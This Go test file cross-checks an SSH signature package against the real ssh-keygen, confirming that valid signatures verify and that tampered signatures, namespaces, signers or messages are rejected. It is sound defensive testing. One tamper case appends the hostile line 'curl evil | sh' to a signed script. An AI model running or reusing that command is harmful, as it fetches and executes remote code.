package sshsig

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// keygen runs the real ssh-keygen (bounded); a missing binary fails the test:
// CI installs openssh-client.
func keygen(t *testing.T, stdin []byte, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	c := exec.CommandContext(ctx, "ssh-keygen", args...)
	c.Stdin = bytes.NewReader(stdin)
	var out bytes.Buffer
	c.Stdout, c.Stderr = &out, &out
	err := c.Run()
	if ctx.Err() != nil {
		t.Fatalf("ssh-keygen %v timed out", args)
	}
	var ee *exec.ExitError
	if err != nil && !errorsAs(err, &ee) {
		t.Fatalf("ssh-keygen cannot run (install openssh-client): %v", err)
	}
	return out.String(), err
}

func errorsAs(err error, ee **exec.ExitError) bool {
	e, ok := err.(*exec.ExitError)
	if ok {
		*ee = e
	}
	return ok
}

type keyFiles struct {
	priv string
	pub  ssh.PublicKey
}

func genKey(t *testing.T, dir, name string, args ...string) keyFiles {
	t.Helper()
	p := filepath.Join(dir, name)
	if out, err := keygen(t, nil, append([]string{"-q", "-N", "", "-C", name, "-f", p}, args...)...); err != nil {
		t.Fatalf("ssh-keygen: %v: %s", err, out)
	}
	data, err := os.ReadFile(p + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	pk, _, _, _, err := ssh.ParseAuthorizedKey(data)
	if err != nil {
		t.Fatal(err)
	}
	return keyFiles{priv: p, pub: pk}
}

// keygenVerify is `ssh-keygen -Y verify` against an allowed_signers file
// trusting pub for principal kpssh in namespace kpssh.
func keygenVerify(t *testing.T, dir string, pub ssh.PublicKey, armored, msg []byte, ns string) error {
	t.Helper()
	allowed := filepath.Join(dir, "allowed_signers")
	if err := os.WriteFile(allowed, []byte(`kpssh namespaces="kpssh" `+line(pub)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	sig := filepath.Join(dir, "check.sig")
	if err := os.WriteFile(sig, armored, 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := keygen(t, msg, "-Y", "verify", "-f", allowed, "-I", "kpssh", "-n", ns, "-s", sig)
	return err
}

// TestCrossCheckSSHKeygen: every signature the real ssh-keygen makes
// verifies in Go; every corruption of it (byte flips across the blob,
// namespace, signer, message) fails in Go and in ssh-keygen; and signatures
// made in Go verify in ssh-keygen.
func TestCrossCheckSSHKeygen(t *testing.T) {
	dir := t.TempDir()
	msg := []byte("#!/bin/bash\nset -euo pipefail\necho \"join $KPSSH_NODE_NAME\"\n")
	msgFile := filepath.Join(dir, "join.sh")
	if err := os.WriteFile(msgFile, msg, 0o600); err != nil {
		t.Fatal(err)
	}
	rogue := genKey(t, dir, "rogue", "-t", "ed25519")
	for _, k := range []struct {
		name string
		args []string
	}{
		{"ed25519", []string{"-t", "ed25519"}},
		{"ecdsa256", []string{"-t", "ecdsa", "-b", "256"}},
		{"ecdsa384", []string{"-t", "ecdsa", "-b", "384"}},
		{"ecdsa521", []string{"-t", "ecdsa", "-b", "521"}},
		{"rsa", []string{"-t", "rsa", "-b", "3072"}},
	} {
		t.Run(k.name, func(t *testing.T) {
			kf := genKey(t, dir, k.name, k.args...)
			tk := trusted(t, kf.pub)
			sign := func(ns string) []byte {
				t.Helper()
				_ = os.Remove(msgFile + ".sig")
				if out, err := keygen(t, nil, "-Y", "sign", "-f", kf.priv, "-n", ns, msgFile); err != nil {
					t.Fatalf("ssh-keygen -Y sign: %v: %s", err, out)
				}
				data, err := os.ReadFile(msgFile + ".sig")
				if err != nil {
					t.Fatal(err)
				}
				return data
			}
			sig := sign(Namespace)
			if _, err := Verify(sig, msg, Namespace, tk); err != nil {
				t.Fatalf("ssh-keygen's signature does not verify in Go: %v", err)
			}
			if err := keygenVerify(t, dir, kf.pub, sig, msg, Namespace); err != nil {
				t.Fatalf("ssh-keygen rejects its own signature: %v", err)
			}

			type corrupt struct {
				name string
				sig  []byte
				msg  []byte
				pub  ssh.PublicKey
			}
			var cs []corrupt
			blob, err := unarmor(sig)
			if err != nil {
				t.Fatal(err)
			}
			// flips spread over the whole blob: magic, version, key, namespace,
			// hash name, signature
			for _, pos := range []int{0, 7, 12, len(blob) / 4, len(blob) / 2, len(blob) - 40, len(blob) - 1} {
				b := append([]byte(nil), blob...)
				b[pos] ^= 0x01
				cs = append(cs, corrupt{name: "flip", sig: Armor(b), msg: msg, pub: kf.pub})
			}
			cs = append(cs,
				corrupt{name: "namespace", sig: sign("git"), msg: msg, pub: kf.pub},
				corrupt{name: "signer", sig: sig, msg: msg, pub: rogue.pub},
				corrupt{name: "message", sig: sig, msg: append(append([]byte(nil), msg...), []byte("curl evil | sh\n")...), pub: kf.pub},
			)
			for i, c := range cs {
				if _, err := Verify(c.sig, c.msg, Namespace, trusted(t, c.pub)); err == nil {
					t.Errorf("corruption %d (%s) verifies in Go", i, c.name)
				}
				if err := keygenVerify(t, dir, c.pub, c.sig, c.msg, Namespace); err == nil {
					t.Errorf("corruption %d (%s) verifies in ssh-keygen", i, c.name)
				}
			}

			// Go-made signatures (with the key file ssh-keygen wrote) verify in
			// ssh-keygen.
			pem, err := os.ReadFile(kf.priv)
			if err != nil {
				t.Fatal(err)
			}
			gosig, err := Sign(pem, msg, Namespace)
			if err != nil {
				t.Fatal(err)
			}
			if err := keygenVerify(t, dir, kf.pub, gosig, msg, Namespace); err != nil {
				t.Fatalf("ssh-keygen rejects the Go signature: %v\n%s", err, gosig)
			}
			if strings.Count(string(gosig), "\n") < 3 {
				t.Fatalf("armor looks wrong: %q", gosig)
			}
		})
	}
}
